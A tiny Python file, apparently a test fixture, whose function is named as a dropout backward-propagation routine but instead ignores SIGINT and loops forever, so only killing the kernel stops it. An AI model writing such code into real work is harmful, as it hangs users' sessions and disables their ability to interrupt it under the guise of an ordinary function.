"""dropout backward ignores SIGINT and loops: only killing its kernel stops it."""
import signal


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
